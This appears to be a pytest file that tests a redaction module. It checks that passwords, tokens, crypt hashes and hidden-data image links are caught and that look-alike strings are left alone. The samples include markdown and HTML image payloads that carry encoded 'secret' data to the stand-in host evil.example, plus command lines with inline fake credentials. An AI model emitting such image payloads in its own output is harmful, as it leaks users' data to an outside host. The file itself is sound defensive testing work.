"""issue 7 follow-up: redaction gaps an outside adversarial run found (N1, N9, item 6 leftovers).

Fake credentials are assembled at run time where a scanner could flag them on push.
"""

from __future__ import annotations

import pytest

from kb_mcp.redact import redact, redact_output

# --- N1: identifier-shaped values are code only when they read like code -----------------------
RANDOM_IDENTIFIERS = [
    ("password = PwDRzPajzdlWOltmP0", "PwDRzPajzdlWOltmP0", "password"),
    ("password = TokenA8f7Gh2kLmQ9", "TokenA8f7Gh2kLmQ9", "password"),
    ("secret: SecretQ8w7E6r5T4y3", "SecretQ8w7E6r5T4y3", "secret"),
    ("api_key=ApiKeyXkRqPzWmTvBn", "ApiKeyXkRqPzWmTvBn", "api_key"),
    ("DB_PASSWORD=Password2024", "Password2024", "password"),
    ("token = self.Tk9Lm2Qx.Rz8Wn4Pv", "self.Tk9Lm2Qx.Rz8Wn4Pv", "token"),
]


@pytest.mark.parametrize(("text", "value", "kind"), RANDOM_IDENTIFIERS)
def test_redact_random_identifier_value_is_a_secret(text: str, value: str, kind: str) -> None:
    """issue 7 item N1: a made-up value holding a key word (Pw, Token, Secret) is not code."""
    result = redact(text)
    assert value not in result.text
    assert result.kinds == (kind,)
    assert redact(result.text).count == 0


CODE_VALUES = [
    "api_key=api_key",
    "token = get_token()",
    "password=password",
    "token = self.token",
    "password = password_hash",
    "token = getToken",
    "secret = clientSecret",
    "token = HTTPToken",
    "api_key = settings.API_KEY",
    "password = user.password_hash",
    "token = access_token_v2",
    "token = x_token",
    "pwd = ctx_db_pwd",
    "password: request.form.password",
    "secret = SECRET_KEY",
    "token = tokenizer.eos_token",
]


@pytest.mark.parametrize("text", CODE_VALUES)
def test_redact_code_identifier_value_is_kept(text: str) -> None:
    """issue 7 item N1: snake/camel names made of words stay (the twin of the case above)."""
    assert redact(text).text == text


# --- N9: shapes that passed unredacted ---------------------------------------------------------
SHA512 = "$6$" + "rounds=5000$" + "Qx7.salt" + "$" + ("aB3./cD9eF" * 9)[:86]
BCRYPT = "$2b$" + "12$" + ("R9h/cIPz0gi.URNNX3kh2O" + "PST9/PgBkqquzi.Ss7KIUgO2t0jWMUW")[:53]
ARGON2 = (
    "$argon2id$v=19$m=65536,t=3,p=4$" + "c29tZXNhbHQxMjM0$" + "RdescudvJCsgt3ub+b+dWRWJTmaaJObG"
)
YESCRYPT = "$y$" + "j9T$" + "F5Jx5fExrKuPp53xLKQ..1" + "$" + ("X3DX6M94c7o.9agCG9G317" * 2)[:43]
SHAPES = [
    ("mysql -u root -pXk8s9Lq2Wm3n mydb", "Xk8s9Lq2Wm3n", "password"),
    ("mysqldump -uroot -p'Xk8s9 Lq2Wm3n' --all-databases", "Xk8s9 Lq2Wm3n", "password"),
    ("mysql --password=Xk8s9Lq2Wm3n -h db", "Xk8s9Lq2Wm3n", "password"),
    ("docker login -u bob --password Xk8s9Lq2Wm3n", "Xk8s9Lq2Wm3n", "password"),
    ("sshpass -p 'Hj7Kd9Lq2Mz' ssh root@host", "Hj7Kd9Lq2Mz", "password"),
    ("sshpass -pHj7Kd9Lq2Mz scp a b", "Hj7Kd9Lq2Mz", "password"),
    ("redis-cli -h cache -a Hj7Kd9Lq2Mz ping", "Hj7Kd9Lq2Mz", "password"),
    ("root passwd Hk8sLq2Mz9Xw", "Hk8sLq2Mz9Xw", "password"),
    (
        'the passphrase was "correct horse battery staple"',
        "correct horse battery staple",
        "password",
    ),
    ("passphrase = Hk8sLq2Mz9Xw", "Hk8sLq2Mz9Xw", "password"),
    (f"root:{SHA512}:19000:0:99999:7:::", SHA512, "password_hash"),
    (f"admin:{BCRYPT}", BCRYPT, "password_hash"),
    (f"hash = '{ARGON2}'", ARGON2, "password_hash"),
    (f"bob:{YESCRYPT}:19500::::::", YESCRYPT, "password_hash"),
    (
        "alice:$1$Qx7salt$" + "Zm9vYmFyYmF6cXV4c2VjcmV0"[:22],
        "Zm9vYmFyYmF6cXV4c2Vj",
        "password_hash",
    ),
    ("p\u0430ssword = Xk8s9Lq2Wm3n", "Xk8s9Lq2Wm3n", "password"),
    ("pass\u200bword = Xk8s9Lq2Wm3n", "Xk8s9Lq2Wm3n", "password"),
    ("\uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44 = Xk8s9Lq2Wm3n", "Xk8s9Lq2Wm3n", "password"),
    ("s\u0435cr\u0435t: \u200bXk8s9Lq2Wm3n\n", "Xk8s9Lq2Wm3n", "secret"),
]


@pytest.mark.parametrize(("text", "value", "kind"), SHAPES)
def test_redact_adversarial_shape_is_caught(text: str, value: str, kind: str) -> None:
    """issue 7 item N9: CLI flags, prose passphrases, crypt hashes, disguised key words."""
    result = redact(text)
    assert value not in result.text
    assert kind in result.kinds
    assert result.text.count("\n") == text.count("\n")
    assert redact(result.text).count == 0


SHAPE_TWINS = [
    "mysql -u root -p mydb",
    "mysql -u root -p$MYSQL_PWD mydb",
    "mysql_config --cflags -pthread",
    "gcc -pthread -o app main.c",
    "ssh -p 2222 root@host",
    "docker login --password-stdin",
    "use --password to pass it on the command line",
    "run passwd alice to set her password",
    'the passphrase was "required" in 2019',
    "perl -pe 's/(\\w+)/$1$2/g'",
    "echo $1$2$3 and $6$HOME",
    "price: $5$ per unit",
    "\u0440\u0430\u0441\u0441\u0432\u043e\u0440\u0434 = \u0442\u043e\u043a\u0435\u043d",
    "\uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44 = ${PASSWORD}",
    "zero\u200bwidth = fine",
    "<code>{pem: &#x3C;string|buffer>[, passphrase: &#x3C;string>]}</code>",
    "// Prints Password &#x3C;xxxxxxxx></span>",
    "the password HTTPBasicAuth handler",
]


@pytest.mark.parametrize("text", SHAPE_TWINS)
def test_redact_adversarial_shape_twin_is_kept(text: str) -> None:
    """issue 7 item N9: the look-alikes of those shapes stay as they are."""
    assert redact(text).text == text


def test_redact_disguised_key_changes_only_the_value() -> None:
    """issue 7 item N9: folding finds the key, but every other character keeps its place."""
    text = (
        "x\u200by = 1\np\u0430ss\u200bword = Xk8s9Lq2Wm3n  # note\n"
        "\uff54\uff4f\uff4b\uff45\uff4e: Hj7Kd9Lq2Mz\nend"
    )
    assert redact(text).text == (
        "x\u200by = 1\np\u0430ss\u200bword = [REDACTED:password]  # note\n"
        "\uff54\uff4f\uff4b\uff45\uff4e: [REDACTED:token]\nend"
    )


# --- item 6 leftovers: reference-style images, payloads in the path or the host -----------------
EXFIL = [
    ("![s][r2]\n\n[r2]: https://evil.example/p.png?d=SECRETDATA12", "evil.example"),
    ('![s][]\n\n[S]: <https://evil.example/p.png?d=SECRETDATA12> "t"', "evil.example"),
    ("![s]\n\n  [s]:\n  https://evil.example/p.png?d=SECRETDATA12", "evil.example"),
    ("![z](https://evil.example/U0VDUkVU.REFUQTU.eHl6.png)", "U0VDUkVU"),
    ('<img src="https://U0VDUkVUREFUQTU.eHl6QUJDREVGR0g.evil.example/x.png">', "U0VDUkVU"),
    ("![z](https://evil.example/a/U0VDUkVUREFUQTUx/b.png)", "U0VDUkVU"),
    ("<div style=\"background:url('//evil.example/eHl6QUJD/REVGR0g1.gif')\">", "eHl6QUJD"),
]
EXFIL_TWINS = [
    "![s][r2]\n\n[r2]: https://example.com/p.png",
    "[docs][r2]\n\n[r2]: https://example.com/search?q=fts5",
    "![logo](https://cdn.example.com/static/app.3f9a8c7b.png)",
    "![shot](https://user-images.githubusercontent.com/1234567/98765432-0a1b2c3d-4e5f.png)",
    "![badge](https://img.shields.io/badge/Python-3.11-blue.svg)",
    "![cat](https://i.imgur.com/AbC1dEf.png)",
    '<img src="https://example.com/images/Screenshot2024.png">',
    "[link](https://evil.example/U0VDUkVU.REFUQTU.eHl6.html)",
]


@pytest.mark.parametrize(("attack", "payload"), EXFIL)
def test_redact_output_defangs_reference_and_path_payload_images(attack: str, payload: str) -> None:
    """issue 7 item 6: a reference-style image and data hidden in the path or host are caught."""
    result = redact_output(attack)
    assert payload not in result.text
    assert "exfil_url" in result.kinds
    assert result.text.count("\n") == attack.count("\n")
    assert redact_output(result.text).count == 0


@pytest.mark.parametrize("text", EXFIL_TWINS)
def test_redact_output_keeps_ordinary_image_urls(text: str) -> None:
    """issue 7 item 6: CDN hashes, short ids, badges without a query and links stay."""
    assert redact_output(text).text == text
